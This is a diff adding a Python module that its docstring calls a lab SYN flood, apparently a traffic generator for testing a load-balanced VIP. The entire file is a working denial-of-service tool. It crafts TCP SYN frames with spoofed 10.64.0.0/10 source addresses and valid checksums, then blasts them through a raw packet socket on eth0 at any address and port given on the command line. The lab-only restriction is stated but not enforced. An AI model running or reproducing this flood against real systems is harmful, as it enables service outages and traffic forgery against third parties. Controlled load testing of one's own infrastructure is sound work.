@@ -1,0 +1,117 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A SYN flood for the lab: TCP SYNs to a VIP, each from another source, none ever completed.
+
+Frames are built with numpy and written to a packet socket on eth0, past this host's own stack. Only
+usable inside a lab's namespace: the sources are made up. Run as `python -m limpet.lab.flood ...`.
+"""
+
+import argparse
+import ipaddress
+import json
+import socket
+import time
+
+import numpy as np
+from numpy.typing import NDArray
+from pyroute2 import IPRoute
+
+SOURCES = int(ipaddress.IPv4Address("10.64.0.0"))  # 10.64.0.0/10: four million sources
+ETH_P_IP = 0x0800
+FRAME = np.dtype(
+    [
+        ("macs", "u1", (12,)),
+        ("ethertype", ">u2"),
+        ("version_ihl", "u1"),
+        ("tos", "u1"),
+        ("length", ">u2"),
+        ("id", ">u2"),
+        ("fragment", ">u2"),
+        ("ttl", "u1"),
+        ("protocol", "u1"),
+        ("check", ">u2"),
+        ("source", ">u4"),
+        ("dest", ">u4"),
+        ("source_port", ">u2"),
+        ("dest_port", ">u2"),
+        ("sequence", ">u4"),
+        ("acknowledgement", ">u4"),
+        ("offset", "u1"),
+        ("flags", "u1"),
+        ("window", ">u2"),
+        ("tcp_check", ">u2"),
+        ("urgent", ">u2"),
+    ]
+)
+CHUNK = 65_536  # frames built at a time
+IP_HEADER, TCP_HEADER = 20, 20
+SYN = 0x02
+
+
+def frames(macs: bytes, vip: ipaddress.IPv4Address, port: int, numbers: NDArray[np.int64]) -> bytes:
+    """One SYN per number, from source 10.64.0.0 + number, with correct checksums."""
+    rows = np.zeros(len(numbers), FRAME)
+    rows["macs"] = np.frombuffer(macs, np.uint8)
+    rows["ethertype"] = ETH_P_IP
+    rows["version_ihl"], rows["length"], rows["ttl"] = 0x45, IP_HEADER + TCP_HEADER, 64
+    rows["protocol"] = socket.IPPROTO_TCP
+    rows["source"], rows["dest"] = SOURCES + numbers, int(vip)
+    rows["source_port"], rows["dest_port"] = 1_024 + numbers % 60_000, port
+    rows["offset"], rows["flags"], rows["window"] = 5 << 4, SYN, 65_535
+    halves = rows.view(np.uint8).reshape(len(rows), FRAME.itemsize)[:, 14:].copy().view(">u2")
+    rows["check"] = _checksum(halves[:, : IP_HEADER // 2].astype(np.uint32).sum(axis=1))
+    pseudo = halves[:, 6:10].astype(np.uint32).sum(axis=1) + socket.IPPROTO_TCP + TCP_HEADER
+    rows["tcp_check"] = _checksum(halves[:, 10:].astype(np.uint32).sum(axis=1) + pseudo)
+    return rows.tobytes()
+
+
+def _checksum(sums: NDArray[np.integer]) -> NDArray[np.integer]:
+    """RFC 1071: fold to 16 bits and invert."""
+    for _ in range(2):
+        sums = (sums & 0xFFFF) + (sums >> 16)
+    return ~sums & 0xFFFF
+
+
+def link_macs(vip: str) -> bytes:
+    """MAC addresses of the router and of this host, in the order of an Ethernet header."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
+        probe.connect((vip, 9))
+        probe.send(b"")  # lets the kernel resolve the router
+    with IPRoute() as route:
+        eth0 = route.link_lookup(ifname="eth0")[0]
+        own = route.get_links(eth0)[0].get_attr("IFLA_ADDRESS")
+        gateway = route.route("get", dst=vip)[0].get_attr("RTA_GATEWAY")
+        for _ in range(50):
+            for neighbour in route.get_neighbours(ifindex=eth0):
+                mac = neighbour.get_attr("NDA_LLADDR")
+                if neighbour.get_attr("NDA_DST") == gateway and mac:
+                    return bytes.fromhex((mac + own).replace(":", ""))
+            time.sleep(0.02)
+    raise SystemExit(f"the router {gateway} does not answer")
+
+
+def flood(vip: str, port: int, count: int) -> float:
+    """Send; seconds that it took."""
+    macs, target = link_macs(vip), ipaddress.IPv4Address(vip)
+    begun = time.monotonic()
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP)) as out:
+        out.bind(("eth0", 0))
+        for start in range(0, count, CHUNK):
+            numbers = np.arange(start, min(count, start + CHUNK))
+            data = memoryview(frames(macs, target, port, numbers))
+            for at in range(0, len(data), FRAME.itemsize):
+                out.send(data[at : at + FRAME.itemsize])
+    return time.monotonic() - begun
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
+    parser.add_argument("vip")
+    parser.add_argument("port", type=int)
+    parser.add_argument("count", type=int)
+    options = parser.parse_args()
+    took = flood(options.vip, options.port, options.count)
+    print(json.dumps({"sent": options.count, "seconds": round(took, 2)}))
+
+
+if __name__ == "__main__":
+    main()
